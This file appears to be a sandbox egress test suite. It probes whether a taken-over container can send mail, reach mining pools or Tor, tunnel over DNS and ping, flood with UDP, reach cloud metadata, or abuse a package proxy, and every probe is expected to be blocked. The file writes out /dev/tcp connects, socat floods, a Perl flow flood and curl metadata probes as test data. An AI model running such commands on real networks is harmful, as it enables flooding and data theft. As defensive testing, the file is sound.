/** Class 19: what a taken-over host would be used for: mail, mining, name queries as a tunnel, floods. In each of the modes of egress, from the narrowest on. */
import { DEFAULT_SETTINGS } from "#sandbox";
import type { Attack, Stage } from "../attack.ts";
import { asIn, packetsTo, sendTo, withWayTo } from "../egress.ts";
import { perl } from "../perl.ts";
import { openRouter } from "../weakenings/network.ts";

/** Kept for documentation: nobody's. */
const somewhere = "203.0.113.77";
/** Private, shared by providers, and of the clouds' metadata; no network of an engine's. */
const privates = ["10.201.3.4", "192.168.177.4", "100.64.77.4", "169.254.169.254"];
const mailPorts = [25, 465, 587, 2525];
const { egressKbit, newConnectionsPerMinute } = DEFAULT_SETTINGS.limits;

const connectTo = (address: string, ...ports: readonly number[]) =>
  `${ports.map((port) => `timeout 1 bash -c 'exec 3<> /dev/tcp/${address}/${port}' &`).join(" ")} wait;`;

/** Datagrams, each out of a port of its own: to whoever counts, a connection each. */
const newcomer = String.raw`
my ($address, $wanted) = @ARGV; my $to = pack("S n a4 x8", 2, 9, pack("C4", split /\./, $address));
for my $number (1 .. $wanted) { socket(my $one, 2, 2, 17) or die; send($one, "new", 0, $to); select(undef, undef, undef, 0.01) unless $number % 20 }`;

async function newFlows(stage: Stage) {
  const wanted = newConnectionsPerMinute * 3;
  const begunAt = performance.now();
  const flows = await packetsTo(somewhere, stage, `${perl(newcomer, somewhere, wanted)};`);
  const minutes = (performance.now() - begunAt) / 60_000;
  if (flows === 0) throw new Error("the way out is not open");
  const allowed = newConnectionsPerMinute * (1 + minutes);
  return { succeeded: flows > allowed, observed: `${flows} of ${wanted} flows got out` };
}

const floodBytes = 20_000_000;
/** What is saved up, and what has no class. */
const besideBytes = 400_000;
/** Of a flood that gets out at all. */
const leastBytes = 300_000;

async function bandwidth(stage: Stage) {
  const { attacker } = stage;
  const look = "cat /sys/class/net/eth0/statistics/tx_bytes; date +%s%N";
  const numbers = async () => (await attacker.outside(look)).stdout.split("\n").map(Number);
  return withWayTo([somewhere], stage, async () => {
    const [bytes = 0, begunNs = 0] = await numbers();
    const flood = `head -c ${floodBytes} /dev/zero | socat -u -b 1000 - UDP4-DATAGRAM:${somewhere}:9`;
    const { exitCode, stderr } = await attacker.root(flood);
    const [bytesThen = 0, endedNs = 0] = await numbers();
    if (exitCode !== 0) throw new Error(stderr);
    const seconds = (endedNs - begunNs) / 1e9;
    const sent = bytesThen - bytes;
    const allowed = (egressKbit * 1000 * seconds) / 8 + besideBytes;
    const observed = `${(sent / 1e6).toFixed(1)} MB in ${seconds.toFixed(1)} s of ${floodBytes / 1e6} MB`;
    if (sent < leastBytes) throw new Error(`the way out is not open: ${observed}`);
    return { succeeded: sent > allowed, observed };
  });
}

/** What the proxy of the package sources is asked for: names that are not listed, and addresses of the classroom's and of clouds. */
async function throughProxy({ attacker, victim }: Stage) {
  const proxy = (await attacker.outside("echo $PROXY_IP")).stdout;
  const names = ["other.example", victim.containerId.slice(0, 12), victim.address, "169.254.169.254", "localhost"];
  const ask = "curl --silent --insecure --max-time 5 --output /dev/null --write-out '%{http_code} '";
  const requests = names.flatMap((name) =>
    ["http", "https"].map((kind) => `${ask} --connect-to ::${proxy} ${kind}://${name}/`),
  );
  const { stdout } = await attacker.root(requests.join("; "), { timeoutMs: 60_000 });
  const statuses = stdout.trim().split(/\s+/);
  if (!statuses.includes("403")) throw new Error(`the proxy does not answer: ${stdout}`);
  const passed = statuses.filter((status) => status !== "403" && status !== "000");
  return { succeeded: passed.length > 0, observed: `${statuses.length} asked, ${passed.length} passed on` };
}

const noPacket = "no packet leaves the sandbox";

const attacks: readonly Attack[] = [
  {
    nr: "19a",
    name: "send mail",
    expected: noPacket,
    weakened: openRouter,
    isShort: true,
    attempt: (stage) => sendTo(somewhere, stage, connectTo(somewhere, ...mailPorts)),
  },
  {
    nr: "19b",
    name: "call a mining pool, Tor, and the web",
    expected: noPacket,
    weakened: openRouter,
    attempt: (stage) => sendTo(somewhere, stage, connectTo(somewhere, 80, 443, 3333, 4444, 9001, 9030)),
  },
  {
    nr: "19c",
    name: "tunnel through name queries and echo requests",
    expected: noPacket,
    weakened: openRouter,
    attempt: (stage) =>
      sendTo(
        somewhere,
        stage,
        `dig +tries=1 +time=1 @${somewhere} secret.example; ping -c 2 -W 1 -s 1000 ${somewhere};`,
      ),
  },
  {
    nr: "19d",
    name: "flood somebody with datagrams",
    expected: noPacket,
    weakened: openRouter,
    attempt: (stage) =>
      sendTo(somewhere, stage, `head -c 1M /dev/zero | timeout 5 socat -u -b 1000 - UDP4-DATAGRAM:${somewhere}:9;`),
  },
  {
    nr: "19e",
    name: "with package sources open: send mail, call the web and others",
    expected: noPacket,
    weakened: openRouter,
    attempt: (stage) =>
      asIn("packages", stage, () => sendTo(somewhere, stage, connectTo(somewhere, ...mailPorts, 80, 443, 3333, 9001))),
  },
  {
    nr: "19f",
    name: "with package sources open: have their proxy call others and private networks",
    expected: "403, or no connection",
    weakened: null,
    whyNotWeakened: "one proxy serves every sandbox, and stands out of their reach: it answers, and says no",
    attempt: (stage) => asIn("packages", stage, () => throughProxy(stage)),
  },
  {
    nr: "19g",
    name: "with the internet open: send mail",
    expected: "no packet leaves the sandbox; to the same machine's web server they do",
    weakened: openRouter,
    attempt: (stage) =>
      asIn("open", stage, async () => {
        const web = await packetsTo(somewhere, stage, connectTo(somewhere, 80));
        if (web === 0) throw new Error("the way out is not open");
        return sendTo(somewhere, stage, connectTo(somewhere, ...mailPorts));
      }),
  },
  {
    nr: "19h",
    name: "with the internet open: call private networks and a cloud's metadata",
    expected: noPacket,
    weakened: openRouter,
    attempt: (stage) =>
      asIn("open", stage, async () => {
        const packets: number[] = [];
        for (const address of privates) packets.push(await packetsTo(address, stage, connectTo(address, 22, 80, 443)));
        const all = packets.reduce((sum, some) => sum + some, 0);
        return { succeeded: all > 0, observed: `${all} packets left for ${privates.length} addresses` };
      }),
  },
  {
    nr: "19i",
    name: "with the internet open: flood somebody who does not answer",
    expected: `at most ${egressKbit / 1000} Mbit/s, and each datagram counts as a connection begun`,
    weakened: openRouter,
    attempt: (stage) => asIn("open", stage, () => bandwidth(stage)),
  },
  {
    nr: "19j",
    name: "with the internet open: begin connections without end",
    expected: `at most ${newConnectionsPerMinute} a minute`,
    weakened: openRouter,
    attempt: (stage) => asIn("open", stage, () => newFlows(stage)),
  },
];
export default attacks;
